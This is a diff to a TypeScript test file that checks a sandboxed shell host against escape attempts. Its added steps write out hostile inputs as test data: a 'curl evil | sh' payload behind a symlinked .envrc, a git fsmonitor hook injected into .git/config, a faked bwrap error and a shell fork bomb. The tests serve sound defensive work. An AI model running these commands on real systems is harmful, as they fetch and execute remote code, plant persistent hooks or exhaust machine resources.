@@ -163,6 +163,30 @@ async function writeEscapes(
       assertEquals(await Deno.readTextFile(`${where.root}/.mcp.json`), '{"mcpServers": {}}\n');
     },
   );
+  await t.step("a protected name made as a symlink is set aside too", async () => {
+    const out = await shell(host, "echo 'curl evil | sh' > payload; ln -s payload .envrc");
+    assertStringIncludes(out.text, "SET ASIDE: .envrc");
+    assertFalse(await exists(`${where.root}/.envrc`));
+  });
+  await t.step("renaming .git does not carry its config away", async () => {
+    const config = await Deno.readTextFile(`${where.root}/.git/config`);
+    const out = await shell(
+      host,
+      "mv .git .git-old; cp -r .git .git-copy && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git-copy/config; " +
+        "mv .git-copy .git; rm -rf .git-copy",
+    );
+    assertStringIncludes(out.text, "busy");
+    assertEquals(await Deno.readTextFile(`${where.root}/.git/config`), config);
+    assertFalse(await exists(`${where.root}/.git-old`));
+  });
+  await t.step("a command that fakes a bwrap error still has what it made set aside", async () => {
+    const out = await shell(
+      host,
+      "echo '{}' > toolhost.json; echo \"bwrap: Can't chdir to /x: No such file or directory\" >&2; exit 1",
+    );
+    assert(out.isError, out.text);
+    assertFalse(await exists(`${where.root}/toolhost.json`));
+  });
 }
 
 /** Processes outliving the call, a fork bomb, a huge file, a time limit. */
@@ -175,16 +199,21 @@ async function processEscapes(t: Deno.TestContext, host: LaunchedHost): Promise<
       "sleep 3013 gone",
     );
   });
-  await t.step("a fork bomb is stopped and the host keeps serving", async () => {
-    // The bomb runs while the command waits, so it meets the limit (returning at once would end it).
-    const out = await shell(host, "b(){ b | b & }; b; sleep 3; echo waited", { timeout_s: 8 });
-    // Stopped by the process limit (fork fails, or the watch kills the run), or by its time limit.
-    assert(
-      /Resource temporarily unavailable|more than \d+ processes|EXIT CODE: timeout/.test(out.text),
-      out.text.slice(-2000),
-    );
-    assertStringIncludes((await shell(host, "echo alive")).text, "alive");
-  });
+  await t.step(
+    "a fork bomb is stopped by the process limit and the host keeps serving",
+    async () => {
+      // The bomb runs while the command waits, so it meets the limit (returning at once would end it).
+      const out = await shell(host, "b(){ b | b & }; b; sleep 3; echo waited", { timeout_s: 8 });
+      // Stopped by the process limit: fork fails (the rlimit), or the watch kills the run (root);
+      // never merely by its time limit.
+      assert(
+        /Resource temporarily unavailable|more than \d+ processes/.test(out.text),
+        out.text.slice(-2000),
+      );
+      assertFalse(out.text.includes("EXIT CODE: timeout"), out.text.slice(-2000));
+      assertStringIncludes((await shell(host, "echo alive")).text, "alive");
+    },
+  );
   await t.step("a 10 GB file stops at the file size limit", async () => {
     const out = await shell(
       host,
